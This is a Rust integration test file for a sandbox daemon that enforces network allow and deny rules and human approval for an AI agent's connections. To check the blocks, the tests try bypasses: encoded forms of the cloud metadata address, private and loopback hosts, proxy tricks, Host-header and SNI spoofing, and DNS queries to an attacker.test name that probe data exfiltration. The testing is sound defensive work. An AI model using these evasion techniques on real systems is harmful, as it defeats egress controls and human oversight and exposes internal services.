//! What an agent reaches and what not, over an internet of the test's own.
#![forbid(unsafe_code)]

use std::time::Duration;

use aether_tests::{
    Daemon, Outcome, eventually,
    internet::{FORBIDDEN, Internet, OTHER, OWN, PUBLIC, echo, http},
};

const HOSTS: &str = "93.184.216.34 allowed.test www.allowed.test slow.test\n93.184.216.35 other.test evilallowed.test\n\
                     10.9.9.9 private.test\n93.184.216.34 mixed.test\n10.9.9.9 mixed.test\n127.0.0.1 loop.test";

/// Runs a script in a sandbox of its own.
fn inside(daemon: &Daemon, options: &[&str], script: &str) -> Outcome {
    let args = [&["run", "--rm"], options, &["--", "bash", "-c", script]].concat();
    daemon.aether_with(args, b"", Duration::from_secs(60))
}

/// An internet with servers everywhere an agent might want to go, and a daemon.
fn world() -> (Internet, Daemon) {
    let internet = Internet::new();
    for (address, body) in [(PUBLIC, "allowed"), (OTHER, "other")] {
        internet.serve(address, 80, http(body));
        internet.serve(address, 2222, echo);
    }
    for address in FORBIDDEN {
        internet.serve(address, 80, http("FORBIDDEN"));
    }
    internet.serve_host(OWN, 80, http("FORBIDDEN"));
    internet.serve_host("127.0.0.1", 80, http("FORBIDDEN"));
    let daemon = internet.daemon(HOSTS);
    (internet, daemon)
}

#[test]
fn an_allowed_host_is_reached_without_any_proxy_variable() {
    let (_internet, daemon) = world();
    let out = inside(&daemon, &["--allow", "allowed.test"], "env | grep -i proxy; curl -sS -m 20 http://allowed.test/").ok();
    assert_eq!(out.text(), "allowed", "{out}");
    let by_proxy =
        "for p in http://198.18.0.1:3128 socks5h://198.18.0.1:3128; do curl -sS -m 20 -x $p http://allowed.test/; done;
                    curl -sS -m 20 -p -x http://198.18.0.1:3128 http://allowed.test/";
    let out = inside(&daemon, &["--allow", "allowed.test"], by_proxy).ok();
    assert_eq!(out.text(), "allowedallowedallowed", "{out}");
}

#[test]
fn what_no_rule_names_is_refused_in_words() {
    let (_internet, daemon) = world();
    for name in ["other.test", "evilallowed.test", "allowed.test.other.test", "www.allowed.test"] {
        let out = inside(
            &daemon,
            &["--allow", "allowed.test"],
            &format!("curl -sS -m 20 -o /dev/stderr -w '%{{http_code}}' http://{name}/"),
        );
        assert_eq!(out.text(), "403", "{out}");
        assert!(out.stderr.contains("no rule allows it") && out.stderr.contains("hint: ask a person"), "{out}");
    }
    let out = inside(&daemon, &["--net", "allow"], "curl -sS -m 20 -w '%{http_code}' -o /dev/null http://allowed.test/");
    assert_eq!(out.text(), "403", "an empty list denies: {out}");
    let out = inside(&daemon, &["--allow", "allowed.test"], "curl -sS -m 20 https://other.test/");
    assert_eq!(out.code, 35, "a TLS alert: {out}");
    assert!(out.stderr.contains("access denied"), "{out}");
    let out = inside(&daemon, &[], "curl -sS -m 20 http://allowed.test/");
    assert_ne!(out.code, 0, "no network is the default: {out}");
}

#[test]
fn special_and_own_addresses_are_never_reached() {
    let (internet, daemon) = world();
    // The control: the host itself reaches every one of them.
    for address in FORBIDDEN.iter().chain(&[OWN, "127.0.0.1"]) {
        assert_eq!(internet.in_host(&["curl", "-sS", "-m", "10", &format!("http://{address}/")]), "FORBIDDEN", "{address}");
    }
    let all =
        "for to in 10.9.9.9 192.168.7.7 169.254.169.254 100.64.1.1 11.0.0.1 '[::ffff:169.254.169.254]' private.test mixed.test \
               loop.test 2852039166 0xa9fea9fe 0251.0376.0251.0376; do
               for p in '' '-x http://198.18.0.1:3128' '-p -x http://198.18.0.1:3128' '-x socks5h://198.18.0.1:3128'; do
               curl -sS -g -m 20 $p http://$to/ 2>&1; done; done; echo; echo done";
    for net in ["open", "ask"] {
        let options: &[&str] = if net == "open" {
            &["--net", "open"]
        } else {
            &["--net", "ask", "--allow", "private.test", "--allow", "mixed.test", "--allow", "loop.test"]
        };
        let out = inside(&daemon, options, all);
        assert!(out.text().ends_with("done\n"), "{out}");
        assert!(!out.text().contains("FORBIDDEN"), "{out}");
    }
    let out = inside(&daemon, &["--net", "open"], "curl -sS -m 20 http://other.test/; curl -sS -m 20 http://93.184.216.34/").ok();
    assert_eq!(out.text(), "otherallowed", "the control: {out}");
}

#[test]
fn a_connection_cannot_ask_for_another_host() {
    let (_internet, daemon) = world();
    let script = "curl -sS -m 20 -H 'Host: other.test' http://allowed.test/; curl -sS -m 20 http://allowed.test/ http://allowed.test/ -H 'Host: allowed.test'";
    let out = inside(&daemon, &["--allow", "allowed.test"], script);
    assert!(out.text().contains("asks for other.test at another host"), "{out}");
    assert!(out.text().ends_with("allowedallowed"), "the control: {out}");
    let tls = "openssl s_client -connect allowed.test:443 -servername other.test </dev/null 2>&1 | grep -c 'alert access denied'";
    let internet_tls = inside(&daemon, &["--allow", "allowed.test"], tls);
    assert_ne!(internet_tls.text().trim(), "", "{internet_tls}");
}

#[test]
fn a_server_may_speak_first_and_both_sides_end_on_their_own() {
    let (_internet, daemon) = world();
    let script = "exec 3<>/dev/tcp/allowed.test/2222; read -u 3 line; echo $line; echo again >&3; read -u 3 line; echo $line";
    let out = inside(&daemon, &["--allow", "allowed.test:2222"], script).ok();
    assert_eq!(out.text(), "hello\nagain\n", "{out}");
    let out = inside(&daemon, &["--allow", "allowed.test"], script);
    assert!(!out.text().contains("hello"), "another port: {out}");
}

#[test]
fn names_carry_nothing_out() {
    let (_internet, daemon) = world();
    let script = "getent ahostsv4 data.attacker.test | head -1; python3 - <<'E'
import socket, struct
def ask(kind, server, name=b'\\x04data\\x08attacker\\x04test\\0'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((server, 53))
    s.send(struct.pack('>6H', 7, 256, 1, 0, 0, 0) + name + struct.pack('>2H', kind, 1))
    answer = s.recv(4096); return answer[3] & 15
print([ask(k, '198.18.0.1') for k in (1, 16, 10, 255, 28)], ask(1, '8.8.8.8'))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('93.184.216.34', 443)); s.send(b'quic')
try: s.send(b'quic'); print('sent')
except ConnectionRefusedError: print('refused')
E";
    let out = inside(&daemon, &["--net", "allow"], script).ok();
    let lines: Vec<String> = out.text().lines().map(str::to_owned).collect();
    assert!(lines[0].starts_with("198.1"), "{out}");
    assert_eq!(lines[1..], ["[0, 5, 5, 5, 0] 0", "refused"], "{out}");
}

#[test]
fn a_policy_changes_while_the_agent_runs() {
    let (_internet, daemon) = world();
    let script = "while sleep 0.2; do curl -s -m 5 http://other.test/; echo; done";
    let agent = daemon.agent(&["--allow", "allowed.test", "--name", "hot"], script);
    agent.prints("no rule allows it");
    let shown = daemon.aether(["network", "hot", "allow", "other.test"]).ok().text();
    assert!(shown.contains("allow    other.test"), "{shown}");
    agent.prints("\nother\n");
    daemon.aether(["network", "hot", "deny", "other.test"]).ok();
    agent.prints("other.test is denied");
    let table = daemon.aether(["network", "hot"]).ok().text();
    assert!(table.contains("deny     other.test") && table.contains("other.test:80"), "{table}");
    let events = daemon.aether(["--json", "network", "hot"]).ok().json();
    assert!(events["destinations"][0]["denied"].as_u64().expect("a count") > 0, "{events}");
    daemon.aether(["network", "hot", "allow", "a/b"]).refused(2, "a destination is given as");
    agent.remove();
}

#[test]
fn what_is_not_known_is_held_until_a_person_decides() {
    let (_internet, daemon) = world();
    let script = "curl -sS -m 60 http://other.test/ & curl -sS -m 20 http://allowed.test/; echo; wait; echo; curl -sS -m 60 http://www.allowed.test/";
    let agent = daemon.agent(&["--net", "ask", "--allow", "allowed.test", "--name", "asks"], script);
    agent.prints("allowed");
    let waiting = |host: &str| {
        eventually(&format!("{host} to wait"), Duration::from_secs(20), || {
            let list = daemon.aether(["--json", "approvals"]).ok().json();
            list.as_array()
                .expect("a list")
                .iter()
                .find(|one| one["wish"]["host"] == host)
                .map(|one| one["id"].as_u64().expect("id"))
        })
    };
    let id = waiting("other.test");
    assert!(!agent.logs().contains("other"), "it is held");
    daemon.aether(["approvals", "allow", &id.to_string()]).ok();
    agent.prints("other");
    daemon.aether(["approvals", "allow", &id.to_string()]).refused(3, "no approval");
    let id = waiting("www.allowed.test");
    daemon.aether(["approvals", "deny", &id.to_string()]).ok();
    agent.prints("a person denied it");
    let types: Vec<String> = daemon.audit().iter().map(|record| record["action"].as_str().expect("action").to_owned()).collect();
    assert_eq!(types.iter().filter(|action| *action == "approval.decide").count(), 3, "{types:?}");
}

#[test]
fn without_the_daemon_there_is_no_network_and_after_a_restart_there_is() {
    let (_internet, mut daemon) = world();
    let script = "while sleep 0.3; do curl -s -m 2 http://allowed.test/ && echo; done";
    let id = {
        let agent = daemon.agent(&["--allow", "allowed.test", "--name", "stays"], script);
        agent.prints("allowed");
        agent.id
    };
    daemon.kill9();
    daemon.restart();
    let count = |daemon: &Daemon| daemon.aether(["logs", &id]).ok().text().matches("allowed").count();
    let before = count(&daemon);
    eventually("the network to come back", Duration::from_secs(20), || (count(&daemon) > before + 2).then_some(()));
}
